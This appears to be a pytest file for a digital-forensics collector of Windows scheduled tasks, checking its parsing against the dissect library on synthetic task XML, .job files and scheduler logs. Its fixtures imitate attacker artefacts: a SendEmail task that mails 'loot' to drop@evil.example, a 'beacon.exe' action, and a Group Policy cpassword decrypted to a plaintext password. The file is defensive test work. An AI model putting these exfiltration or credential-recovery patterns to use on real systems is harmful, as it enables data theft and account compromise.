"""Windows task collector through real dissect targets, side by side with dissect's own ``tasks`` and
``schedlgu`` plugins on the same files (peers.md, dissect.target 3.25.1 tasks defects 1-9)."""

from __future__ import annotations

import hashlib
import json
import subprocess
import uuid
from datetime import datetime, timezone
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from dissect.target import Target

from test_images.jobfile import AT_LOGON, AT_SYSTEMSTART, DAILY, ON_IDLE, ONCE, WEEKLY, AtJob, JobTrigger, encode_job
from test_images.regf import minimal_hive
from triage.collect import Context, Source
from triage.collect.filefacts import read_file
from triage.collect.windows_tasks import collect
from triage.records import EvidenceRef, TaskDefinition, TaskEvent, to_dict
from tests.conftest import CORPUS

pytestmark = pytest.mark.usefixtures("corpus")  # real samples from ../shared/corpus

PROJECT = Path(__file__).resolve().parents[2]
GAME_OVER = CORPUS / "AndrewRathbun__DFIRArtifactMuseum" / "Windows" / "ScheduledTasks" / "Win10" / "APTSimulatorVM" / "GameOver"
BERLIN = ZoneInfo("Europe/Berlin")
NS = 'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"'


def task_xml(body: str) -> bytes:
    text = f'<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" {NS}>{body}</Task>'
    return b"\xff\xfe" + text.encode("utf-16-le")


def exec_action(command: str) -> str:
    return f"<Exec><Command>{command}</Command></Exec>"


TWO_EXECS = task_xml("<Actions>" + exec_action("C:\\Windows\\System32\\notepad.exe")
                     + exec_action("C:\\Users\\Public\\beacon.exe") + "</Actions>")
SEND_EMAIL = task_xml("<Actions><SendEmail><Server>mail.evil.example</Server><Subject>loot</Subject>"
                      "<To>drop@evil.example</To><From>host@corp.example</From><Body>x</Body></SendEmail></Actions>")
SHOW_MESSAGE = task_xml("<Actions><ShowMessage><Title>Hello</Title><Body>Pay up</Body></ShowMessage></Actions>")
UNKNOWN_TRIGGER = task_xml("<Triggers><CalendarTrigger><ScheduleByYear/></CalendarTrigger><BootTrigger/></Triggers>"
                           "<Actions>" + exec_action("C:\\ProgramData\\svc.exe") + "</Actions>")
PLAIN = task_xml("<Actions>" + exec_action("C:\\Windows\\System32\\calc.exe") + "</Actions>")


def every_trigger_job() -> bytes:
    begin = datetime(2024, 7, 1, 3, 15)
    return encode_job(AtJob(
        job_uuid=uuid.UUID("0f0e0d0c-0b0a-0908-0706-050403020100"), application="C:\\Windows\\Temp\\x.exe",
        parameters="", working_directory="", author="CORP\\mallory", comment="",
        triggers=(JobTrigger(ONCE, begin), JobTrigger(DAILY, begin, type_specific=(1, 0, 0)),
                  JobTrigger(WEEKLY, begin, type_specific=(1, 0x02, 0)), JobTrigger(ON_IDLE, begin),
                  JobTrigger(AT_SYSTEMSTART, begin), JobTrigger(AT_LOGON, begin)),
        last_run=datetime(2024, 7, 1, 3, 15, 2), exit_code=0x1, status=0x41301))


SCHEDLGU = ('"Task Scheduler Service"\r\n\tStarted at 7/1/2024 3:00:00 AM\r\n'
            '"At1.job" (x.exe) \r\n\tStarted 7/1/2024 3:15:00 AM\r\n'
            '"At1.job" (x.exe) \r\n\tFinished 7/1/2024 3:15:02 AM\r\n\tResult: The task completed with an exit code of (c000013a).\r\n'
            "[ ***** Most recent entry is above this line ***** ]\r\n")


@pytest.fixture(scope="module")
def software_hive(tmp_path_factory) -> bytes:
    """SOFTWARE hive holding only SystemRoot, so dissect can expand %windir% (its tasks plugin needs it)."""
    path = tmp_path_factory.mktemp("hive") / "SOFTWARE"
    path.write_bytes(minimal_hive("emRoot\\System32\\Config\\SOFTWARE", "CMI-CreateHive{00000000-0000-0000-0000-000000000001}",
                                  datetime(2024, 1, 1, tzinfo=timezone.utc)))
    job = {"hive": str(path), "keys": [{"path": "Microsoft\\Windows NT\\CurrentVersion",
                                        "values": [["SystemRoot", 1, "C:\\Windows\0".encode("utf-16-le").hex()]]}]}
    subprocess.run(["/usr/bin/python3", str(PROJECT / "test_images" / "hive_fill.py")], input=json.dumps(job).encode(),
                   check=True)
    return path.read_bytes()


@pytest.fixture
def make_target(tmp_path, software_hive):
    """A directory target (dissect's DirLoader sees Windows from windows/system32) with the given files."""
    def build(files: dict[str, bytes]) -> Path:
        root = tmp_path / "evidence"
        (root / "Windows" / "System32" / "config").mkdir(parents=True)
        (root / "Windows" / "System32" / "config" / "SOFTWARE").write_bytes(software_hive)
        for relative, data in files.items():
            path = root / relative
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
        return root
    return build


def run_triage(root: Path, tz=BERLIN) -> tuple[list, Context]:
    ctx = Context(quiet=True)
    source = Source(ref=EvidenceRef(path=str(root), kind="dir", sha256="ab" * 32), target=Target.open(root), tz=tz)
    return list(collect(source, ctx)), ctx


def definitions(records) -> dict[str, TaskDefinition]:
    return {r.task: r for r in records if isinstance(r, TaskDefinition)}


def dissect_records(root: Path, group: bool = False) -> list:
    return list(Target.open(root).tasks(group=group))


def test_second_exec_action_is_kept(make_target):
    root = make_target({"Windows/System32/Tasks/TwoActions": TWO_EXECS})
    dissect_commands = [r.command for r in dissect_records(root) if r._desc.name == "filesystem/windows/task/action"]
    assert dissect_commands == ["C:\\Windows\\System32\\notepad.exe", "C:\\Windows\\System32\\notepad.exe"]
    records, _ = run_triage(root)
    assert [a.command for a in definitions(records)["\\TwoActions"].actions] == [
        "C:\\Windows\\System32\\notepad.exe", "C:\\Users\\Public\\beacon.exe"]


def test_send_email_fields_are_read(make_target):
    root = make_target({"Windows/System32/Tasks/Mail": SEND_EMAIL})
    [dissect_action] = [r for r in dissect_records(root) if r._desc.name == "filesystem/windows/task/action"]
    assert (dissect_action.server, dissect_action.to, dissect_action.subject) == (None, None, None)
    records, _ = run_triage(root)
    email = definitions(records)["\\Mail"].actions[0]
    assert (email.kind, email.details["server"], email.details["to"], email.details["subject"]) == (
        "sendemail", "mail.evil.example", "drop@evil.example", "loot")


def test_show_message_does_not_abort(make_target):
    root = make_target({"Windows/System32/Tasks/A_Popup": SHOW_MESSAGE, "Windows/System32/Tasks/B_Plain": PLAIN})
    with pytest.raises(TypeError):
        dissect_records(root)
    records, ctx = run_triage(root)
    found = definitions(records)
    assert found["\\A_Popup"].actions[0].details == {"title": "Hello", "body": "Pay up"}
    assert found["\\B_Plain"].actions[0].command == "C:\\Windows\\System32\\calc.exe"
    assert ctx.gaps == []


def test_unknown_trigger_is_kept_and_rest_parsed(make_target):
    root = make_target({"Windows/System32/Tasks/Odd": UNKNOWN_TRIGGER})
    with pytest.raises(ValueError, match="Unknown calendar type"):
        dissect_records(root)
    records, _ = run_triage(root)
    odd = definitions(records)["\\Odd"]
    assert [t.kind for t in odd.triggers] == ["unknown", "boot"]
    assert odd.triggers[0].details["raw_xml"] == "<CalendarTrigger><ScheduleByYear /></CalendarTrigger>"
    assert odd.actions[0].command == "C:\\ProgramData\\svc.exe"


def test_dotted_task_name_is_found(make_target):
    root = make_target({"Windows/System32/Tasks/Microsoft/Update.Service": TWO_EXECS,
                        "Windows/System32/Tasks/Office Automatic Updates 2.0": PLAIN,
                        "Windows/System32/Tasks/Plain": PLAIN})
    dissect_paths = [str(r.task_path) for r in dissect_records(root) if r._desc.name == "filesystem/windows/task"]
    assert [p.rsplit("\\", 1)[-1] for p in dissect_paths] == ["Plain"]
    records, _ = run_triage(root)
    assert sorted(definitions(records)) == ["\\Microsoft\\Update.Service", "\\Office Automatic Updates 2.0", "\\Plain"]


def test_job_once_boot_logon_idle_triggers_are_decoded(make_target):
    root = make_target({"Windows/Tasks/At1.job": every_trigger_job()})
    grouped = [r for r in dissect_records(root, group=True) if r._desc.name == "filesystem/windows/task/grouped"]
    # dissect: one action record plus DAILY and WEEKLY only; ONCE, ON_IDLE, AT_SYSTEMSTART, AT_LOGON vanish.
    assert len(grouped) == 1 + 2
    records, _ = run_triage(root)
    job = definitions(records)["\\At1"]
    assert [t.kind for t in job.triggers] == ["time", "daily", "weekly", "idle", "boot", "logon"]
    assert (job.triggers[0].start.as_written, job.triggers[0].start.utc) == ("2024-07-01 03:15", "2024-07-01T01:15:00Z")


def test_job_status_exit_code_and_uuid_are_emitted(make_target):
    root = make_target({"Windows/Tasks/At1.job": every_trigger_job()})
    [task_record] = [r for r in dissect_records(root, group=True) if r._desc.name == "filesystem/windows/task"]
    assert not {"status", "exit_code", "job_uuid", "uuid"} & set(task_record._desc.fields)
    records, _ = run_triage(root)
    job = definitions(records)["\\At1"]
    assert (job.details["status_name"], job.details["exit_code"], job.details["job_uuid"]) == (
        "running", 1, "0f0e0d0c-0b0a-0908-0706-050403020100")
    assert [(s.meaning, s.utc) for s in job.stamps] == [("last_run", "2024-07-01T01:15:02Z")]


def test_dissect_without_group_dies_on_job_with_trigger(make_target):
    root = make_target({"Windows/Tasks/At1.job": every_trigger_job()})
    with pytest.raises(TypeError, match="padding"):
        dissect_records(root, group=False)
    records, ctx = run_triage(root)
    assert len(definitions(records)["\\At1"].triggers) == 6 and ctx.gaps == []


def test_local_xml_times_use_machine_zone_and_keep_as_written(make_target):
    root = make_target({"Windows/System32/Tasks/GameOver": GAME_OVER.read_bytes()})
    [task_record] = [r for r in dissect_records(root) if r._desc.name == "filesystem/windows/task"]
    assert task_record.date == datetime(2022, 3, 10, 15, 59, 3, tzinfo=timezone.utc)  # local time taken as UTC
    records, _ = run_triage(root)
    date = definitions(records)["\\GameOver"].date
    assert (date.as_written, date.utc, date.basis, date.timezone) == (
        "2022-03-10T15:59:03", "2022-03-10T14:59:03Z", "local", "Europe/Berlin")


@pytest.mark.parametrize("indent", ["\t", "    "])
def test_schedlgu_hex_exit_code_is_kept(make_target, indent):
    root = make_target({"Windows/Tasks/SchedLgU.txt": b"\xff\xfe" + SCHEDLGU.replace("\t", indent).encode("utf-16-le")})
    if indent == "\t":
        # dissect's regex wants 4 spaces before the result line: with a tab the exit code is silently lost.
        finished = [r for r in Target.open(root).schedlgu() if r.status == "Finished"]
        assert [r.exit_code for r in finished] == [None]
    else:
        with pytest.raises(ValueError, match="c000013a"):  # int() of a hex exit code ends dissect's iteration
            list(Target.open(root).schedlgu())
    records, _ = run_triage(root)
    events = [r for r in records if isinstance(r, TaskEvent)]
    assert [(e.action, e.task, e.time.as_written, e.time.utc, e.result_code) for e in events] == [
        ("service_started", None, "7/1/2024 3:00:00 AM", "2024-07-01T01:00:00Z", None),
        ("started", "\\At1", "7/1/2024 3:15:00 AM", "2024-07-01T01:15:00Z", None),
        ("finished", "\\At1", "7/1/2024 3:15:02 AM", "2024-07-01T01:15:02Z", "c000013a"),
    ]
    assert {e.channel for e in events} == {"SchedLgU"} and events[2].command_line == "x.exe"
    assert [e.provenance.offset for e in events] == [1, 3, 5]


def test_collector_output_is_complete_sorted_and_deterministic(make_target):
    gpo = ("Windows/System32/GroupPolicy/DataStore/0/sysvol/corp.local/Policies/{31B2F340-016D-11D2-945F-00C04FB984F9}"
           "/Machine/Preferences/ScheduledTasks/ScheduledTasks.xml")
    gpp = (b'<?xml version="1.0" encoding="utf-8"?><ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118DBCC}">'
           b'<ImmediateTaskV2 clsid="{9756B581-76EC-4169-9AFC-0CA8D43ADB5F}" name="Deploy" uid="{1}">'
           b'<Properties action="C" name="Deploy" runAs="CORP\\svc" cpassword="j1Uyj3Vx8TY9LtLZil2uAuZkFQA/4latT76ZwgdHdhw">'
           b'<Task version="1.2"><Actions><Exec><Command>cmd.exe</Command></Exec></Actions></Task></Properties>'
           b'</ImmediateTaskV2></ScheduledTasks>')
    root = make_target({
        "Windows/System32/Tasks/Zeta": PLAIN,
        "Windows/System32/Tasks/alpha/Broken": b"\xff\xfe" + "<Task><Actions>".encode("utf-16-le"),
        "Windows/System32/Tasks_Migrated/Old": PLAIN,
        "Windows/SysWOW64/Tasks/Wow": PLAIN,
        "Windows/Tasks/At1.job": every_trigger_job(),
        "Windows/Tasks/desktop.ini": b"[.ShellClassInfo]\r\n",
        gpo: gpp,
    })
    records, ctx = run_triage(root)
    found = [r for r in records if isinstance(r, TaskDefinition)]
    assert [(d.task, d.source) for d in found] == [
        ("\\alpha\\Broken", "task_xml"), ("\\At1", "job"), ("\\Deploy", "gpp"), ("\\Old", "task_xml"),
        ("\\Wow", "task_xml"), ("\\Zeta", "task_xml")]
    broken = found[0]
    assert broken.errors and broken.errors[0].startswith("task XML not parsed: malformed XML")
    assert broken.file.sha256 and broken.file.size == 32
    assert [g.location for g in ctx.gaps] == ["sysvol/Windows/System32/Tasks/alpha/Broken"]
    deploy = found[2]
    assert deploy.details["cpassword_decrypted"] == "Local*P4ssword!" and deploy.provenance.location == "sysvol/" + gpo
    old = found[3]
    assert (old.details["task_folder"], old.provenance.artifact, old.provenance.evidence_sha256) == (
        "System32\\Tasks_Migrated", "task_xml", "ab" * 32)
    zeta = found[5]
    assert zeta.file.path == "sysvol/Windows/System32/Tasks/Zeta"
    assert zeta.file.sha256 == hashlib.sha256(PLAIN).hexdigest()
    # A host directory has no $SI/$FN: only its own copy times, and no access time (reading changes it).
    assert [s.meaning for s in zeta.file.times] == ["modified", "changed"]
    again, _ = run_triage(root)
    assert json.dumps(to_dict(again)) == json.dumps(to_dict(records))


def test_ntfs_file_facts_have_si_and_fn_times_and_hash(tmp_path):
    """A real NTFS volume written by ntfs-3g at a frozen clock, read back through dissect's NTFS code."""
    volume = tmp_path / "volume.img"
    with volume.open("wb") as handle:
        handle.truncate(8 * 1024 * 1024)
    env = {"TZ": "UTC", "FAKETIME_NO_CACHE": "1", "PATH": "/usr/sbin:/usr/bin:/sbin:/bin"}
    subprocess.run(["faketime", "-f", "2022-03-10 14:59:03", "mkntfs", "-F", "-f", "-q", str(volume)], env=env, check=True,
                   capture_output=True)
    subprocess.run(["faketime", "-f", "2022-03-10 14:59:03", "ntfscp", "-q", str(volume), str(GAME_OVER), "/Game.Over"],
                   env=env, check=True, capture_output=True)
    facts, data = read_file(Target.open(volume).fs.path("/Game.Over"))
    assert data == GAME_OVER.read_bytes()
    # PROVENANCE.md: GameOver is 3666 bytes, sha256 fbab477f…
    assert (facts.size, facts.sha256) == (3666, "fbab477fa514aff5c16b7e5bdc4346827594e7b65bd5b283dfca96b1b30d15f6")
    assert [(s.meaning, s.utc, s.precision) for s in facts.times] == [
        (meaning, "2022-03-10T14:59:03Z", "100ns") for meaning in (
            "si_created", "si_modified", "si_mft_modified", "si_accessed",
            "fn_created", "fn_modified", "fn_mft_modified", "fn_accessed")]
    assert facts.mode is None and facts.inode >= 16  # NTFS: no unix mode; inode is the MFT record number
